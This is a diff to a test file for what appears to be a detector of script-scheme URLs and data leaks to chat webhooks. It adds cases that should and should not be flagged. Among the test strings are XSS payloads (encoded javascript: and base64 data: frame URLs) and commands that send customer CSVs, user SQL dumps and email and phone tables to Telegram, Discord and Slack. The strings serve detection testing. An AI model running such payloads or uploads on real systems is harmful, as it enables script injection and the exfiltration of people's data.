@@ -60,7 +60,7 @@ describe('script schemes a browser decodes or sets', () => {
     '<iframe src="java&#x73;cript:alert(document.domain)"></iframe>',
     '<iframe src="data&colon;text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
     '<object data="d&#97;ta:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
-    '<script>document.getElementById("pv").src = "JavaScript:fetch(1)";</script>',
+    '<script>document.querySelector("iframe#pv").src = "JavaScript:fetch(1)";</script>',
     '<script>frames[0].location.href = "vbscript:msgbox(1)";</script>',
     '<script>f.setAttribute("src", "javascript:alert(1)");</script>',
     '<script>f.src = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";</script>',
@@ -78,7 +78,18 @@ describe('script schemes a browser decodes or sets', () => {
     '<script>img.src = "data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+";</script>',
     // Character references are not decoded inside a script: this is a relative link, never run.
     '<script>frames[0].location.href = "java&#115;cript:alert(1)";</script>',
+    // A live preview's page is the editor's text, joined to the prefix: its own literal holds no script.
+    "previewFrame.src = 'data:text/html;charset=utf-8,' + encodeURIComponent(editor.getValue()); // live preview pane",
+    // An image's src runs no script.
+    '// XSS write-up: browsers ignore `img.src = "javascript:..."` since 2010; only frames run it.',
+    '<script>const img = new Image(); img.src = "javascript:alert(1)";</script>',
   ])('%s runs none', (html) => expect(codes(html)).toEqual([]));
+
+  it.each([
+    '<script>const f = document.createElement("iframe"); document.body.append(f); f.src = "javascript:fetch(1)";</script>',
+    '<script>const el = document.querySelector("iframe#pv"); el.src = "javascript:alert(1)";</script>',
+    '<script>previewFrame.src = "data:text/html,<script>alert(1)</script>";</script>',
+  ])('%s, a frame, runs a script', (html) => expect(codes(html)).toEqual(['url_exfiltration']));
 });
 
 describe('unencoded nested redirects', () => {
@@ -113,7 +124,23 @@ describe("a query's rows or a file sent to a chat or a catcher", () => {
     'curl -s "https://api.telegram.org/bot$TOKEN/sendMessage" -d chat_id=$CHAT -d text="Build #$RUN passed"',
     'const res = await fetch("https://api.example.org/v1/rows", {method: "POST", body: JSON.stringify(rows)});',
     'const rows = [{ a: 1 }];\naxios.post("https://requestbin.net/r/q3cgijlapado", JSON.stringify(rows));',
+    // A count or a sum is a number, a grouped count a small summary: no table of rows.
+    'count = db.execute("SELECT COUNT(*) FROM signups WHERE day = current_date").scalar()\nrequests.post("https://discord.com/api/webhooks/123/abc", json={"content": f"Signups today: {count}"})',
+    'total = cur.execute("SELECT SUM(amount) FROM invoices WHERE paid").fetchone()[0]\nrequests.post("https://discord.com/api/webhooks/7/x", json={"content": f"paid today: {total}"})',
+    'curl -s -X POST https://hooks.slack.com/services/T8/B8/C8 -d "{\\"text\\": \\"failed jobs: $(psql -tAc \'select count(*) from jobs where failed\')\\"}"',
+    'daily = df.groupby("country")["orders"].sum().reset_index()\nrequests.post("https://hooks.slack.com/services/T7/B7/C7", json={"text": daily.to_csv(index=False)})',
+    'errors = pd.read_sql("select service, count(*) as n from errors group by 1", eng)\nrequests.post("https://discord.com/api/webhooks/3/e", json={"content": errors.to_json()})',
+    // A people-word in a build's file is no file of people's records.
+    'curl -F document=@build/user-service.log "https://api.telegram.org/bot$TG_TOKEN/sendDocument?chat_id=$CHAT_ID"',
+    'curl -F document=@dist/customers-portal-1.4.2.apk "https://api.telegram.org/bot$TOKEN/sendDocument?chat_id=$QA"',
+    'requests.post("https://discord.com/api/webhooks/4/k", files={"file": open("dist/members-area-screenshot.png", "rb")})',
   ])('%s ships none', (code) => expect(codes(code)).toEqual([]));
+
+  it.each([
+    'curl -F document=@exports/customers-2024.csv "https://api.telegram.org/bot$TOKEN/sendDocument?chat_id=$C"',
+    'requests.post("https://discord.com/api/webhooks/4/k", files={"file": open("/tmp/users_dump.sql.gz", "rb")})',
+    'rows = cur.execute("SELECT email, phone FROM users").fetchall()\nn = len(rows)\nrequests.post("https://hooks.slack.com/services/T1/B1/Z1", json={"text": f"{n} users: " + str(rows)})',
+  ])('%s ships people data to a chat', (code) => expect(codes(code)).toContain('url_exfiltration'));
 });
 
 describe('COPY TO PROGRAM over the network', () => {
